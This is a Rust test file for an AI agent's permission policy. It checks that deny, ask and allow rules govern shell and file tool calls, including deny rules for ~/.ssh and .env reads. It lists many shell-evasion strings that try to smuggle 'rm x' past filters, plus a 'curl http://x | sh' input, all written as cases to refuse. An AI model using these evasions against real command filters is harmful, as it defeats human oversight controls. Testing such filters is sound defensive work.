@@ -1,0 +1,475 @@
+//! Rules and modes: what they say of calls.
+
+use std::os::unix::fs::symlink;
+use std::path::{Path, PathBuf};
+
+use wire::state::PermissionMode;
+
+use super::shell::Script;
+use super::{Bases, Call, PermissionLayer, PermissionSettings, Policy, Verdict};
+
+const CWD: &str = "/nowhere/project";
+
+fn layer(mode: &str, allow: &[&str], ask: &[&str], deny: &[&str]) -> PermissionLayer {
+    let texts = |texts: &[&str]| texts.iter().map(ToString::to_string).collect();
+    PermissionLayer {
+        mode: PermissionMode::parse(mode),
+        allow: texts(allow),
+        ask: texts(ask),
+        deny: texts(deny),
+    }
+}
+
+fn bases(cwd: &Path) -> Bases<'_> {
+    Bases {
+        cwd,
+        home: Some(Path::new("/nowhere/home")),
+        real_path: tools::real_path,
+    }
+}
+
+fn policy_in(cwd: &Path, user: PermissionLayer, project: PermissionLayer) -> Policy {
+    let (policy, notes) = Policy::new(&PermissionSettings { user, project }, None, bases(cwd));
+    assert!(notes.is_empty(), "{notes:?}");
+    policy
+}
+
+fn policy(mode: &str, allow: &[&str], ask: &[&str], deny: &[&str]) -> Policy {
+    policy_in(
+        Path::new(CWD),
+        layer(mode, allow, ask, deny),
+        PermissionLayer::default(),
+    )
+}
+
+/// `run`, `ask` or `refuse`.
+fn word(verdict: Verdict) -> &'static str {
+    match verdict {
+        Verdict::Run => "run",
+        Verdict::Ask => "ask",
+        Verdict::Refuse(_) => "refuse",
+    }
+}
+
+fn file_call(tool: &str, named: PathBuf) -> Call {
+    let real = tools::real_path(&named);
+    Call::file(tool, named, real)
+}
+
+fn bash(policy: &Policy, command: &str) -> &'static str {
+    word(policy.judge(&Call::command("bash", command)))
+}
+
+fn file(policy: &Policy, tool: &str, path: &str) -> &'static str {
+    word(policy.judge(&file_call(tool, PathBuf::from(path))))
+}
+
+#[test]
+fn permission_modes_without_rules_give_defaults() {
+    let calls = [
+        file_call("read", PathBuf::from("/etc/passwd")),
+        Call::other(pinion_core::todo::TOOL),
+        file_call("edit", PathBuf::from("/nowhere/project/a")),
+        Call::command("bash", "ls"),
+        Call::other("host_tool"),
+        Call::uri("write", "notes://a"),
+    ];
+    for (mode, expected) in [
+        ("off", ["run"; 6]),
+        ("auto", ["run"; 6]),
+        ("ask", ["run", "run", "ask", "ask", "ask", "ask"]),
+        (
+            "read-only",
+            ["run", "run", "refuse", "refuse", "refuse", "refuse"],
+        ),
+    ] {
+        let policy = policy(mode, &[], &[], &[]);
+        let said: Vec<&str> = calls.iter().map(|call| word(policy.judge(call))).collect();
+        assert_eq!(said, expected, "{mode}");
+    }
+}
+
+#[test]
+fn deny_precedes_ask_precedes_allow() {
+    let policy = policy(
+        "ask",
+        &["bash(git *)", "edit", "lookup"],
+        &["bash(git push *)", "edit(secret/**)"],
+        &["bash(git push --force *)", "*(.env)", "read(~/.ssh)"],
+    );
+    assert_eq!(bash(&policy, "git status"), "run");
+    assert_eq!(bash(&policy, "git push origin"), "ask");
+    assert_eq!(bash(&policy, "git push --force origin"), "refuse");
+    assert_eq!(file(&policy, "edit", "/nowhere/project/a.rs"), "run");
+    assert_eq!(file(&policy, "edit", "/nowhere/project/secret/a"), "ask");
+    for tool in ["read", "edit", "write", "grep"] {
+        assert_eq!(file(&policy, tool, "/nowhere/project/deep/.env"), "refuse");
+        assert_eq!(file(&policy, tool, "/elsewhere/.env"), "refuse");
+    }
+    assert_eq!(file(&policy, "read", "/nowhere/home/.ssh/id_rsa"), "refuse");
+    assert_eq!(file(&policy, "read", "/nowhere/home/.sshx"), "run");
+    assert_eq!(word(policy.judge(&Call::other("lookup"))), "run");
+    assert_eq!(word(policy.judge(&Call::other("other"))), "ask");
+    assert!(matches!(
+        policy.judge(&file_call("read", PathBuf::from("/x/.env"))),
+        Verdict::Refuse(why) if why.contains("*(.env)")
+    ));
+}
+
+#[test]
+fn read_only_mode_refuses_writes_except_allowed_commands() {
+    let policy = policy("read-only", &["bash(git log *)", "write", "lookup"], &[], &[]);
+    assert_eq!(bash(&policy, "git log -p"), "run");
+    assert_eq!(bash(&policy, "git log > log.txt"), "refuse");
+    assert_eq!(bash(&policy, "git commit"), "refuse");
+    assert_eq!(file(&policy, "write", "/nowhere/project/a"), "refuse");
+    assert_eq!(word(policy.judge(&Call::other("lookup"))), "run");
+    assert_eq!(word(policy.judge(&Call::other("other"))), "refuse");
+}
+
+#[test]
+fn project_rules_only_tighten() {
+    let cwd = Path::new(CWD);
+    let user = || layer("ask", &["bash"], &[], &[]);
+    let looser = policy_in(cwd, user(), layer("off", &["edit"], &[], &[]));
+    assert_eq!(looser.mode(), PermissionMode::Ask);
+    let tighter = policy_in(cwd, user(), layer("read-only", &[], &[], &["bash(rm *)"]));
+    assert_eq!(tighter.mode(), PermissionMode::ReadOnly);
+    assert_eq!(bash(&tighter, "rm x"), "refuse");
+    // Rules alone hold, too, and the user cannot choose below them.
+    let mut rules = policy_in(
+        cwd,
+        PermissionLayer::default(),
+        layer("", &[], &[], &["bash(rm *)"]),
+    );
+    assert_eq!(
+        (rules.mode(), bash(&rules, "rm x")),
+        (PermissionMode::Auto, "refuse")
+    );
+    rules.choose(PermissionMode::Off);
+    assert_eq!(
+        (rules.mode(), bash(&rules, "rm x")),
+        (PermissionMode::Auto, "refuse")
+    );
+    let mut none = policy("", &[], &[], &["bash(rm *)"]);
+    none.choose(PermissionMode::Off);
+    assert_eq!((none.mode(), bash(&none, "rm x")), (PermissionMode::Off, "run"));
+}
+
+#[test]
+fn session_grant_covers_only_the_same_call() {
+    let mut policy = policy("ask", &[], &["read(secret)"], &["bash(rm *)"]);
+    let call = Call::command("bash", "make test");
+    policy.grant(&call);
+    policy.grant(&file_call("read", PathBuf::from("/nowhere/project/secret/a")));
+    policy.grant(&Call::command("bash", "rm x"));
+    assert_eq!(bash(&policy, "make test"), "run");
+    assert_eq!(bash(&policy, "make test install"), "ask");
+    assert_eq!(file(&policy, "read", "/nowhere/project/secret/a"), "run");
+    assert_eq!(file(&policy, "read", "/nowhere/project/secret/b"), "ask");
+    assert_eq!(bash(&policy, "rm x"), "refuse");
+    policy.choose(PermissionMode::ReadOnly);
+    assert_eq!(bash(&policy, "make test"), "refuse");
+}
+
+#[test]
+fn links_and_dots_do_not_loosen_rules() {
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path().canonicalize().unwrap();
+    let cwd = root.join("project");
+    std::fs::create_dir_all(cwd.join("src")).unwrap();
+    std::fs::create_dir_all(cwd.join("secret")).unwrap();
+    std::fs::create_dir_all(root.join("outside")).unwrap();
+    std::fs::write(cwd.join("secret/key"), "x").unwrap();
+    symlink(root.join("outside"), cwd.join("src/out")).unwrap();
+    symlink("../secret", cwd.join("src/in")).unwrap();
+    symlink(root.join("outside/new"), cwd.join("src/dangling")).unwrap();
+    symlink("round", cwd.join("src/round")).unwrap();
+    symlink(&cwd, root.join("alias")).unwrap();
+    for cwd in [cwd.clone(), root.join("alias")] {
+        let policy = policy_in(
+            &cwd,
+            layer("ask", &["write(src/**)"], &[], &["*(secret/**)"]),
+            PermissionLayer::default(),
+        );
+        let write = |path: &str| word(policy.judge(&file_call("write", cwd.join(path))));
+        assert_eq!(write("src/a"), "run");
+        assert_eq!(write("src/deep/new/a"), "run");
+        assert_eq!(write("src/out/a"), "ask");
+        assert_eq!(write("src/dangling"), "ask");
+        assert_eq!(write("src/in/key"), "refuse");
+        assert_eq!(write("secret/key"), "refuse");
+        assert_eq!(write("a"), "ask");
+        assert_eq!(write("srcs/a"), "ask");
+        let read = |path: &Path| word(policy.judge(&file_call("read", path.to_path_buf())));
+        assert_eq!(read(&root.join("alias/secret/key")), "refuse");
+        assert_eq!(read(&root.join("project/src/in/key")), "refuse");
+        assert_eq!(read(&root.join("project/src/a")), "run");
+    }
+    // The agent could have put the link there itself: a rule about it does not follow it.
+    symlink(root.join("outside"), cwd.join("link")).unwrap();
+    let policy = policy_in(
+        &cwd,
+        layer("ask", &["write(link/**)"], &[], &[]),
+        PermissionLayer::default(),
+    );
+    assert_eq!(word(policy.judge(&file_call("write", cwd.join("link/a")))), "ask");
+    let policy = policy_in(
+        &cwd,
+        layer("auto", &[], &[], &["write(link)"]),
+        PermissionLayer::default(),
+    );
+    assert_eq!(
+        word(policy.judge(&file_call("write", root.join("outside/a")))),
+        "refuse"
+    );
+}
+
+#[test]
+fn path_patterns_are_anchored_by_prefix() {
+    let policy = policy(
+        "ask",
+        &[
+            "write(*.md)",
+            "write(./top)",
+            "write(../beside/**)",
+            "write(/abs/x*/y)",
+            "write(~/notes/)",
+            "write({a,b}/c)",
+        ],
+        &[],
+        &[],
+    );
+    for (path, expected) in [
+        ("/nowhere/project/a.md", "run"),
+        ("/nowhere/project/deep/a.md", "run"),
+        ("/nowhere/a.md", "ask"),
+        ("/nowhere/project/top", "run"),
+        ("/nowhere/project/top/below", "run"),
+        ("/nowhere/project/deep/top", "ask"),
+        ("/nowhere/beside/a", "run"),
+        ("/abs/x1/y", "run"),
+        ("/abs/x1/z/y", "ask"),
+        ("/nowhere/home/notes/a", "run"),
+        ("/nowhere/project/b/c", "run"),
+        ("/nowhere/project/c/c", "ask"),
+    ] {
+        assert_eq!(file(&policy, "write", path), expected, "{path}");
+    }
+}
+
+#[test]
+fn unreadable_rules_are_reported_and_never_loosen() {
+    let settings = PermissionSettings {
+        user: layer(
+            "auto",
+            &["write(a", "(x)"],
+            &[],
+            &["edit([)", "bash(rm", "read(a/../b)"],
+        ),
+        project: PermissionLayer::default(),
+    };
+    let (mut policy, notes) = Policy::new(&settings, None, bases(Path::new(CWD)));
+    assert_eq!(notes.len(), 5, "{notes:?}");
+    assert!(notes[0].to_string().contains("\"write(a\" cannot be read"));
+    assert_eq!(file(&policy, "edit", "/x"), "refuse");
+    assert_eq!(file(&policy, "read", "/x"), "refuse");
+    assert_eq!(bash(&policy, "ls"), "refuse");
+    policy.choose(PermissionMode::Ask);
+    assert_eq!(file(&policy, "write", "/nowhere/project/a"), "ask");
+}
+
+#[test]
+fn every_part_of_line_must_be_allowed() {
+    let policy = policy(
+        "ask",
+        &["bash(git *)", "Bash(ls)", "bash(cd  src)", "bash(echo *)"],
+        &[],
+        &[],
+    );
+    for command in [
+        "git log",
+        "git",
+        "  git   log  ",
+        "ls && git log | git grep x; ls",
+        "cd src\ngit log & ls",
+        "git log # and a remark; rm x",
+        "git log 2>&1 >/dev/null",
+        "git commit -m 'rm; $(rm) `rm`'",
+        "git commit -m \"a \\$x b\"",
+        "git \\\n log",
+        "echo a#b [x] *.rs ~ '{a,b}' {}",
+    ] {
+        assert_eq!(bash(&policy, command), "run", "{command}");
+    }
+    for command in [
+        "",
+        "rm x",
+        "git log; rm x",
+        "git log && rm x",
+        "git log | sh",
+        "git log\nrm x",
+        "git log & rm x",
+        "git log $(rm x)",
+        "git log \"$(rm x)\"",
+        "git log `rm x`",
+        "git log <(rm x)",
+        "git log > file",
+        "git log >> file",
+        "git log &> file",
+        "git log < file",
+        "git log <<E\nx\nE",
+        "git log >& file",
+        "git log >/dev/nullx",
+        "GIT_PAGER=rm git log",
+        "git $x",
+        "git ${x}",
+        "git $'x'",
+        "git {log,x}",
+        "(git log)",
+        "{ git log; }",
+        "if git log; then ls; fi",
+        "! git log",
+        "git log 'x",
+        "git log \"x",
+        "g* log",
+        "\"git log\"",
+        "ls x",
+        "./git log",
+        "gitx",
+        "git() { rm; }; git log",
+        "git log \\",
+    ] {
+        assert_eq!(bash(&policy, command), "ask", "{command}");
+    }
+}
+
+#[test]
+fn forbidden_part_denies_whole_line() {
+    let policy = policy("auto", &[], &[], &["bash(rm *)", "bash(curl * | *)"]);
+    for command in [
+        "rm",
+        "rm -rf x",
+        "ls; rm x",
+        "ls&&rm x",
+        "ls|rm x",
+        "ls\nrm x",
+        "ls &rm x",
+        "/bin/rm x",
+        "r\"m\" x",
+        "r\\m x",
+        "\\rm x",
+        "'rm' x",
+        "r\\\nm x",
+        "x=1 rm x",
+        "(rm x)",
+        "{ rm x; }",
+        "if true; then rm x; fi",
+        "if rm x; then :; fi",
+        "for i in 1; do rm $i; done",
+        "for i do rm x; done",
+        "while rm x; do :; done",
+        "! rm x",
+        "time -p rm x",
+        "f() { rm x; }; f",
+        "function f { rm x; }; f",
+        "case x in x) rm x;; esac",
+        "echo $(rm x)",
+        "echo \"a $(rm x)\"",
+        "echo `rm x`",
+        "echo \"`rm x`\"",
+        "echo $(echo $(rm x))",
+        "echo ${x:-$(rm x)}",
+        "cat <(rm x)",
+        "echo ${x:-<(rm x)}",
+        "cat <<E\n$(rm x)\nE",
+        "cat <<E\ndon't\nE\nrm x\necho '",
+        "cat <<'E'\n$(\nE\nrm x",
+        "cat <<-E\n\tE\nrm x",
+        "sudo -u root rm x",
+        "env A=1 rm x",
+        "env -S 'rm x'",
+        "nohup nice -n 5 rm x",
+        "timeout 5 /bin/rm x",
+        "xargs rm",
+        "find . -name x -exec rm {} +",
+        "bash -c 'ls; rm x'",
+        "bash -o pipefail -c 'rm x'",
+        "sudo sh -c \"rm x\"",
+        "eval rm x",
+        "eval 'r''m x'",
+        "trap 'rm x' EXIT",
+        "2>/dev/null rm x",
+        ">/dev/null rm x",
+        "curl http://x | sh",
+        "$X x",
+        "r$Y x",
+        "/bin/r? x",
+        "{rm,x}",
+        "$'\\x72m' x",
+        "`echo rm` x",
+        "eval \"$X\"",
+        "bash -c \"$X\"",
+        "echo rm x | bash",
+        "bash <<< 'rm x'",
+        "sudo $X",
+        "timeout 5 $X y",
+        "find . -exec $X {} +",
+        "echo \"$(case x in x) rm x;; esac)\"",
+        "echo \"$(# )\nrm x)\"",
+        "echo 'x",
+    ] {
+        assert_eq!(bash(&policy, command), "refuse", "{command}");
+    }
+    for command in [
+        "ls -l",
+        "echo rm x",
+        "echo 'rm x; rm y'",
+        "git rm x",
+        "rmdir x",
+        "# rm x",
+        "echo $HOME ${x:-y} $((1 + 2))",
+        "[ -f x ] && echo \"$x\"",
+        "sudo ls $HOME",
+        "find $DIR -name '*.rs' -exec wc -l {} +",
+        "bash run.sh $X",
+        "cat <<'E'\nrm x\nE",
+        "make 2>&1 | tee log > out",
+    ] {
+        assert_eq!(bash(&policy, command), "run", "{command}");
+    }
+}
+
+#[test]
+fn long_or_deep_lines_do_not_bypass_rules() {
+    let policy = policy("auto", &["bash(echo *)"], &[], &["bash(rm *)"]);
+    let long = format!("echo {}; rm x", "a".repeat(100_000));
+    assert_eq!(bash(&policy, &long), "refuse");
+    let mut deep = "rm x".to_owned();
+    for _ in 0..40 {
+        deep = format!("echo $({deep})");
+    }
+    assert_eq!(bash(&policy, &deep), "refuse");
+    let many = "a -exec b; ".repeat(5_000);
+    assert_eq!(bash(&policy, &format!("{many} rm x")), "refuse");
+    let words = format!("env {} rm x", "A=1 ".repeat(100));
+    assert_eq!(bash(&policy, &words), "refuse");
+}
+
+#[test]
+fn command_line_is_split_into_commands() {
+    let script = Script::parse("cd 'my dir' && git commit -m \"it's\" | cat");
+    let commands: Vec<&str> = script.commands().collect();
+    assert_eq!(commands, ["cd 'my dir'", "git commit -m 'it'\\''s'", "cat"]);
+    assert!(script.is_plain() && !script.is_opaque());
+}
+
+#[test]
+fn name_resembling_link_target_is_shown_with_target() {
+    let shown = |name: &str| file_call("write", Path::new("/nowhere").join(name)).shown();
+    assert_eq!(shown("plain.txt"), "/nowhere/plain.txt");
+    assert_eq!(
+        shown("x (which is y)"),
+        "/nowhere/x (which is y) (which is /nowhere/x (which is y))"
+    );
+}
